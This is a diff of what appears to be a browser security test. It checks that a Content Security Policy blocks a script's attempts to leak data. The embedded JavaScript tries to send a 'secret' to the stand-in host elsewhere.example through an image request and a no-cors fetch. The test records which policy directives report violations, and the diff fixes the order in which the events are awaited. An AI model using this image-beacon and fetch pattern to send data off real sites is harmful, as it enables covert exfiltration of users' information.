@@ -19,14 +19,15 @@ INTRUDER = """() => {
 }"""
 LEAKS = """async () => {
     const { href } = new URL('http://elsewhere.example/?secret');
+    const blocked = new Set();
+    const both = new Promise(done => document.addEventListener('securitypolicyviolation', event => {
+        if (blocked.add(event.effectiveDirective).size === 2) done();
+    }));
     const image = new Image();
     const drawn = new Promise(done => { image.onload = () => done('drawn'); image.onerror = () => done('refused'); });
     image.src = href;
     const fetched = fetch(href, { mode: 'no-cors' }).then(() => 'fetched', () => 'refused');
-    const blocked = new Set();
-    document.addEventListener('securitypolicyviolation', event => blocked.add(event.effectiveDirective));
-    await drawn;
-    await fetched;
+    await Promise.all([drawn, fetched, both]);
     return [...blocked].sort();
 }"""
 
